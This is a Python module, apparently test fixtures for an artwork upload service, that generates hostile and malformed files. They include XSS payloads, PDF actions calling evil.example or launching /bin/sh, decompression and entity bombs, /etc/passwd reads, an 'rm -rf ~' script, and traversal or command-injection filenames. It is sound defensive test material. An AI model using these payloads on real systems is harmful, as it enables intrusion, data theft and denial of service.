"""Files that no artwork is: wrong, damaged, or meant to harm. Each is made here, byte by byte."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

SCRIPT = b"<script>alert(document.cookie)</script>"
WIDTH, HEIGHT = 612.28, 858.9
TRIM = (8.5, 8.5, 603.78, 850.4)
"""Points of a full page with its bleed, and where it is cut."""

Change = Callable[[pikepdf.Pdf, Any], None]


# --- pictures ----------------------------------------------------------------------------------


def picture(kind: str, size: tuple[int, int] = (40, 40), **settings: Any) -> bytes:
    """A sound picture."""
    held = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(held, kind, **settings)
    return held.getvalue()


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(width: int, height: int, data: bytes = b"", more: bytes = b"", depth: int = 1) -> bytes:
    """A PNG that says what it likes of its size."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, 0, 0, 0, 0))
    body = chunk(b"IDAT", data or zlib.compress(bytes(64)))
    return b"\x89PNG\r\n\x1a\n" + head + more + body + chunk(b"IEND", b"")


def jpeg_of(width: int, height: int) -> bytes:
    """A JPEG whose header lies about its size."""
    data = bytearray(picture("JPEG"))
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def tiff_of(width: int, height: int) -> bytes:
    """A TIFF of one entry after the other, with no picture behind them."""
    entries = [
        (256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
        (273, 4, 1, 8), (277, 3, 1, 1), (278, 4, 1, height), (279, 4, 1, 0xFFFF_FFF0),
    ]  # fmt: skip
    table = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(entries)) + table + bytes(4)


# --- PDF ---------------------------------------------------------------------------------------


def pdf(change: Change | None = None, pages: int = 1, **settings: Any) -> bytes:
    """Pages of the booked size with a filled square, changed: without the change they are sound."""
    with pikepdf.new() as made:
        for _ in range(pages):
            page = made.add_blank_page(page_size=(WIDTH, HEIGHT))
            page.obj.TrimBox, page.obj.BleedBox = Array(TRIM), page.obj.MediaBox
            page.obj.Contents = made.make_stream(b"0 0 0 1 k 100 100 300 300 re f")
        if change is not None:
            change(made, made.pages[0].obj)
        held = io.BytesIO()
        made.save(held, **settings)
        return held.getvalue()


def _javascript(made: pikepdf.Pdf, page: Any) -> None:
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _names_script(made: pikepdf.Pdf, page: Any) -> None:
    action = Dictionary(S=Name.JavaScript, JS=String("app.launchURL('http://evil.example')"))
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), action])))


def _launch(made: pikepdf.Pdf, page: Any) -> None:
    page.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("/bin/sh")))


def _submit(made: pikepdf.Pdf, page: Any) -> None:
    action = Dictionary(S=Name.SubmitForm, F=String("http://evil.example/"))
    made.Root.OpenAction = action


def _attached(made: pikepdf.Pdf, page: Any) -> None:
    made.attachments["evil.exe"] = b"MZ" + bytes(100)


def _form(made: pikepdf.Pdf, page: Any) -> None:
    field = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("x"), Rect=Array([9, 9, 99, 99])
    )
    page.Annots = Array([made.make_indirect(field)])
    made.Root.AcroForm = Dictionary(Fields=Array([page.Annots[0]]))


def _film(made: pikepdf.Pdf, page: Any) -> None:
    film = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([9, 9, 99, 99]))
    page.Annots = Array([made.make_indirect(film)])


def _flood(made: pikepdf.Pdf, page: Any) -> None:
    packed = zlib.compress(b"0 0 1 1 re f\n" * 25_000_000, 1)
    page.Contents = pikepdf.Stream(made, packed, Filter=Name.FlateDecode)


def _floods(made: pikepdf.Pdf, page: Any) -> None:
    """Packed twice over: a few kilobytes that unfold to half a thousand million."""
    inner = zlib.compress(zlib.compress(bytes(500_000_000), 1), 9)
    page.Contents = pikepdf.Stream(made, inner, Filter=Array([Name.FlateDecode, Name.FlateDecode]))


def _laughs(made: pikepdf.Pdf, page: Any) -> None:
    """Forms of forms: ten drawn ten times, nine deep."""
    form = pikepdf.Stream(
        made, b"0 0 9 9 re f", Subtype=Name.Form, BBox=Array([0, 0, WIDTH, HEIGHT])
    )
    for _ in range(9):
        form = pikepdf.Stream(
            made, b"/X Do " * 10, Subtype=Name.Form, BBox=Array([0, 0, WIDTH, HEIGHT]),
            Resources=Dictionary(XObject=Dictionary(X=made.make_indirect(form))),
        )  # fmt: skip
    page.Resources = Dictionary(XObject=Dictionary(X=made.make_indirect(form)))
    page.Contents = made.make_stream(b"/X Do")


def _snake(made: pikepdf.Pdf, page: Any) -> None:
    """A tree of pages that is its own branch."""
    made.Root.Pages.Kids.append(made.Root.Pages)
    made.Root.Pages.Count = 2


def _giant(made: pikepdf.Pdf, page: Any) -> None:
    page.MediaBox = Array([0, 0, 10**9, 10**9])


def _nothing(made: pikepdf.Pdf, page: Any) -> None:
    page.MediaBox = Array([0, 0, 0, 0])


def _abroad(made: pikepdf.Pdf, page: Any) -> None:
    """A picture that lies in another file on the server."""
    stream = pikepdf.Stream(made, b"")
    stream.F, stream.FFilter = String("/etc/passwd"), Name.FlateDecode
    stream.Type, stream.Subtype = Name.XObject, Name.Image
    stream.Width = stream.Height = 8
    stream.ColorSpace, stream.BitsPerComponent = Name.DeviceGray, 8
    page.Resources = Dictionary(XObject=Dictionary(X=made.make_indirect(stream)))
    page.Contents = made.make_stream(b"q 500 0 0 500 0 0 cm /X Do Q")


def _program(made: pikepdf.Pdf, page: Any) -> None:
    """PostScript for whoever runs it."""
    code = b"(/etc/passwd) (r) file 1000 string readstring pop == (x) (w) file"
    stream = pikepdf.Stream(made, code, Type=Name.XObject, Subtype=Name.PS)
    page.Resources = Dictionary(XObject=Dictionary(X=made.make_indirect(stream)))
    page.Contents = made.make_stream(b"/X Do")


def _canvas(made: pikepdf.Pdf, page: Any) -> None:
    """A picture of four thousand million pixels, packed."""
    data = zlib.compress(bytes(10_000_000), 9)
    image = pikepdf.Stream(
        made, data, Type=Name.XObject, Subtype=Name.Image, Width=65_000, Height=65_000,
        ColorSpace=Name.DeviceGray, BitsPerComponent=8, Filter=Name.FlateDecode,
    )  # fmt: skip
    page.Resources = Dictionary(XObject=Dictionary(X=made.make_indirect(image)))
    page.Contents = made.make_stream(b"q 500 0 0 500 0 0 cm /X Do Q")


def archive(**files: bytes) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, data in files.items():
            packed.writestr(name, data)
    return held.getvalue()


def locked(owner_only: bool) -> bytes:
    user = "" if owner_only else "secret"
    return pdf(encryption=pikepdf.Encryption(owner="owner", user=user, R=6))


SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"
ENTITIES = (
    b'<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">'.encode() for n in range(9))
    + b"]><svg>&j;</svg>"
)
FAKE = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog"
LOOP = (
    b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 1 0 R /Kids [1 0 R] >>\nendobj\n"
    b"xref\n0 2\n0000000000 65535 f \n0000000009 00000 n \n"
    b"trailer << /Root 1 0 R /Size 2 /Prev 84 >>\nstartxref\n84\n%%EOF\n"
)


def hostile() -> Iterator[tuple[str, str, Callable[[], bytes]]]:
    """What it is, what it calls itself, and how it is made."""
    whole_jpeg, whole_pdf = picture("JPEG", (400, 400)), pdf()
    yield "empty", "a.pdf", lambda: b""
    yield "text", "a.txt", lambda: b"Hej!\n" * 100
    yield "web page", "a.html", lambda: b"<!doctype html>" + SCRIPT
    yield "web page as PDF", "a.pdf", lambda: b"<!doctype html>" + SCRIPT
    yield "web page as JPEG", "a.jpg", lambda: b"<html>" + SCRIPT
    yield "SVG", "a.svg", lambda: SVG
    yield "SVG as PNG", "a.png", lambda: SVG
    yield "SVG of entities", "a.svg", lambda: ENTITIES
    yield "archive", "a.zip", lambda: archive(a=b"x" * 1000)
    yield "archive as PDF", "a.pdf", lambda: archive(a=b"x" * 1000)
    yield "archive bomb", "a.pdf", lambda: archive(a=bytes(200_000_000))
    yield (
        "Word",
        "a.docx",
        lambda: archive(**{"[Content_Types].xml": b"<x/>", "word/document.xml": b""}),
    )
    yield "Windows program", "a.pdf", lambda: b"MZ" + bytes(500)
    yield "Linux program", "a.pdf", lambda: b"\x7fELF" + bytes(500)
    yield "shell script", "a.pdf", lambda: b"#!/bin/sh\nrm -rf ~\n"
    yield "GIF", "a.gif", lambda: picture("GIF")
    yield "BMP", "a.jpg", lambda: picture("BMP")
    yield "WEBP", "a.jpg", lambda: picture("WEBP")
    yield "GIF and script", "a.js", lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)"
    yield "PostScript", "a.eps", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n"
    yield "PostScript as PDF", "a.pdf", lambda: b"%!PS\n%PDF-1.4\n(/etc/passwd) (r) file\n"
    yield "web page before PDF", "a.pdf", lambda: b"<html>" + SCRIPT + b"\n" + whole_pdf
    yield "archive before PDF", "a.pdf", lambda: archive(a=b"x")[:200] + whole_pdf
    yield "program before PDF", "a.pdf", lambda: b"MZ" + bytes(60) + whole_pdf
    yield "JPEG's head on a script", "a.jpg", lambda: b"\xff\xd8\xff\xe0" + SCRIPT * 50
    yield "PDF's head on a script", "a.pdf", lambda: b"%PDF-1.4\n" + SCRIPT * 50
    yield "cut JPEG", "a.jpg", lambda: whole_jpeg[: len(whole_jpeg) // 2]
    yield "cut PNG", "a.png", lambda: picture("PNG", (400, 400))[:60]
    yield "cut TIFF", "a.tif", lambda: picture("TIFF", (400, 400))[:80]
    yield "cut PDF", "a.pdf", lambda: whole_pdf[: len(whole_pdf) // 3]
    yield "PDF's beginning", "a.pdf", lambda: FAKE
    yield "PNG of a lie", "a.png", lambda: png(60_000, 60_000)
    yield "PNG bomb", "a.png", lambda: png(30_000, 30_000, zlib.compress(bytes(112_530_000), 9))
    yield "PNG of nothing", "a.png", lambda: png(0, 0)
    yield "JPEG of a lie", "a.jpg", lambda: jpeg_of(65_500, 65_500)
    yield "TIFF of a lie", "a.tif", lambda: tiff_of(2**31, 2**31)
    yield "locked PDF", "a.pdf", lambda: locked(False)
    yield "PDF locked to changes", "a.pdf", lambda: locked(True)
    yield "many pages", "a.pdf", lambda: pdf(pages=300)
    yield "script when opened", "a.pdf", lambda: pdf(_javascript)
    yield "script by name", "a.pdf", lambda: pdf(_names_script)
    yield "program started", "a.pdf", lambda: pdf(_launch)
    yield "form sent", "a.pdf", lambda: pdf(_submit)
    yield "attachment", "a.pdf", lambda: pdf(_attached)
    yield "form", "a.pdf", lambda: pdf(_form)
    yield "film", "a.pdf", lambda: pdf(_film)
    yield "flood", "a.pdf", lambda: pdf(_flood)
    yield "flood of floods", "a.pdf", lambda: pdf(_floods)
    yield "forms of forms", "a.pdf", lambda: pdf(_laughs)
    yield "pages in a ring", "a.pdf", lambda: pdf(_snake)
    yield "tables in a ring", "a.pdf", lambda: LOOP
    yield "giant page", "a.pdf", lambda: pdf(_giant)
    yield "page of no size", "a.pdf", lambda: pdf(_nothing)
    yield "picture from elsewhere", "a.pdf", lambda: pdf(_abroad)
    yield "PostScript within", "a.pdf", lambda: pdf(_program)
    yield "picture without end", "a.pdf", lambda: pdf(_canvas)


NAMES = (
    "../../../etc/passwd", "..\\..\\windows\\system32\\x.pdf", "/etc/cron.d/x", "a\0.pdf",
    "a" * 5000 + ".pdf", "CON", ".htaccess", "", " ", ".", "..", "a\r\nSet-Cookie: a=b.pdf",
    "fdp.\u202egnp", "<img src=x onerror=alert(1)>.pdf", "$(reboot).pdf", "`id`;.pdf", "-o.pdf",
    "a\"b.pdf", "%2e%2e%2fkey", "å" * 3000,
)  # fmt: skip
"""What a file may call itself."""
